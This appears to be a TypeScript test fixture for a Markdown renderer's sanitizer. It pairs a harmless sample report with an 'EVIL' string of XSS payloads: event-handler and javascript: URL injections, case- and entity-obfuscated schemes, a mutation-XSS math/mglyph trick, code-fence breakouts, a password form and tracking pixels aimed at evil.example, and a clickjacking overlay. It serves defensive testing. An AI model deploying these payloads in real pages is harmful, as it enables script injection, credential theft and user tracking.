/** Texts to be read as Markdown. */

export const SHOWPIECE = `## What I found

The log has **three** kinds of entries; only \`retry\` is worth a look.

| Kind | Count | Share |
|:-----|------:|------:|
| ok | 1,204 | 96.1 % |
| retry | 41 | 3.3 % |
| failed | 8 | 0.6 % |

1. Read the file in one go, it is small.
2. Count by kind:
   - keep the order
   - ~~skip~~ count blank lines
3. Print the table.

\`\`\`python
from collections import Counter

def kinds(path: str) -> Counter[str]:
    """Count entries by their first word."""
    with open(path, encoding="utf-8") as lines:
        return Counter(line.split()[0] for line in lines if line.strip())  # a long comment that makes this line scroll sideways
\`\`\`

> Retries came in bursts, always within a minute of each other.

- [x] counted
- [ ] explained

See [the format](https://example.com/format) and ![a chart](https://example.com/chart.png).`;

/** Everything that must never run, leave the page, or be fetched. */
export const EVIL = `Fine words <script>window.pwned = 1</script> before.

<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"><script>window.pwned = 4</script></svg>

<iframe src="javascript:parent.pwned = 5" srcdoc="<script>parent.pwned = 6</script>"></iframe>

<style>body { display: none !important }</style><link rel="stylesheet" href="https://evil.example/x.css">

<a href="javascript:window.pwned = 7">one</a> [two](javascript:window.pwned=8) [three](data:text/html,<script>alert(1)</script>)
[four](JaVaScRiPt:window.pwned=9) [five](vbscript:x) [six](#/chat/other) [seven](/api/sessions) <a href="java&#10;script:window.pwned=10">eight</a>

<form action="https://evil.example"><input name="password" autofocus onfocus="window.pwned=11"><button>Send</button></form>

<div style="position:fixed;inset:0;z-index:9999" onclick="window.pwned=12" id="app" class="page">over everything</div>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=13&gt;"></mglyph></table></mtext></math>

<details open ontoggle="window.pwned=14"><summary>more</summary>inside</details> <video src=x onerror="window.pwned=15"></video>

![track me](https://evil.example/pixel.png) <img src="https://evil.example/raw.png" alt="raw"> <base href="https://evil.example/">

\`\`\`"><script>window.pwned=16</script>
</code></pre><script>window.pwned = 17</script>
\`\`\`

</script><script>window.pwned = 18</script> after.`;
